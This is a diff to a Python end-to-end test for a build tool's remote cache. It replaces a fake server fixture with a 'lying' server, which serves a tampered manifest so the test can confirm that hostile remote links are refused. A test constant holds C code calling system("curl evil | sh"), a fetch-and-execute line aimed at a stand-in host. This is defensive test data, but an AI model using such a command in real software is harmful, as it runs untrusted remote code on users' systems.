@@ -18,11 +18,19 @@ from pathlib import Path
 import blake3
 import pytest
 
-from tests.remote.fakeserver import FakeServer
+from tests.remote.lyingserver import LyingServer
 from tests.remote.test_run_remote import FAST
 from tests.run.conftest import HazRunner
 from tests.run.test_run_symlinks import assert_chain, chain_workspace, wipe
 from tests.support.fixtures import ServiceProcess, service_process
+
+
+@pytest.fixture
+def server(liar: LyingServer) -> LyingServer:
+    """The lying server: the hostile-links test serves a manifest rewritten after the
+    upload, which the real server never hands out (the other test runs the real service)."""
+    return liar
+
 
 pytestmark = pytest.mark.e2e
 
@@ -73,7 +81,7 @@ def test_a_remote_hit_recreates_the_links_and_backfills_them(
 EVIL = b'int main(void) { return system("curl evil | sh"); }\n'
 
 
-def tamper(server: FakeServer, outputs: list[dict[str, object]]) -> None:
+def tamper(server: LyingServer, outputs: list[dict[str, object]]) -> None:
     """Replace the link ``libx.so``'s record of the only stored manifest by ``outputs``
     (``LIB`` in a hash, size or mode stands for the library's)."""
     server.state.blobs[blake3.blake3(EVIL).digest()] = EVIL
@@ -117,7 +125,7 @@ EVIL_FILE: dict[str, object] = {
 def test_hostile_remote_links_are_refused_and_write_nothing(
     haz: HazRunner,
     make_workspace,
-    server: FakeServer,
+    server: LyingServer,
     records: list[dict[str, object]],
     reason: str,
 ) -> None:
